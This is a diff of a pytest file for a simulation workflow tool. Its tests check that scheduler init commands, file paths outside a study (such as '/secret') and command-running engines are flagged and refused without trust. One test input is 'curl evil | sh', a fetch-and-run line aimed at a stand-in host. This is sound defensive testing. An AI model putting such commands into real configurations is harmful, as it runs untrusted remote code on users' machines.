@@ -300,6 +300,48 @@ def test_a_plug_in_is_named_and_asked_for(tmp_path, install_package):
         agree(archive, plan, trust=False)
 
 
+@pytest.mark.parametrize(
+    ("engine", "rest", "line"),
+    [
+        (
+            "n2p2:pot",
+            '[execution]\nwhere = "slurm"\n[execution.provider]\nworker_init = "id > out"\nmax_blocks = 2\n',
+            "The script of every block of nodes holds worker_init = 'id > out'.",
+        ),
+        (
+            "cp2k",
+            '[reference.options]\nbasis_file = "/secret"\n',
+            "Engine cp2k is given basis_file = /secret, outside of the study.",
+        ),
+        (
+            "lammps:in.lj",
+            "",
+            "Engine lammps:in.lj runs the commands of a file, which can run any code: be sure where it comes from.",
+        ),
+    ],
+)
+def test_what_a_scheduler_runs_and_files_from_outside_are_named_and_asked_for(tmp_path, engine, rest, line):
+    study = parse_study(STUDY.replace("ase:evil.Evil", engine) + rest)
+    plan, provider = make_plan(study), study.execution.provider
+    assert foreign_code(plan, provider) == [line]
+    with pytest.raises(InputError, match="comes from elsewhere"):
+        agree(packed(tmp_path), plan, provider=provider, trust=False)
+
+
+def test_the_script_of_a_scheduler_is_asked_for_by_the_command_itself(tmp_path):
+    text = (
+        STUDY.replace("ase:evil.Evil", "n2p2:pot")
+        + '[execution]\nwhere = "slurm"\n[execution.provider]\nworker_init = "id"\n'
+    )
+    (tmp_path / "study.toml").write_text(text)
+    with zipfile.ZipFile(tmp_path / "study.zip", "w") as zipped:
+        zipped.writestr("study/study.toml", text)
+    done = run(tmp_path, "run", "study.zip", "--out", "again")
+    assert done.returncode == 1
+    assert "worker_init" in done.stderr
+    assert not (tmp_path / "again").exists()
+
+
 def test_llpt_plan_names_the_programs_that_a_study_starts(tmp_path):
     text = STUDY.replace("ase:evil.Evil", "vasp") + '[reference.options]\ncommand = "curl evil | sh"\n'
     (tmp_path / "study.toml").write_text(text)
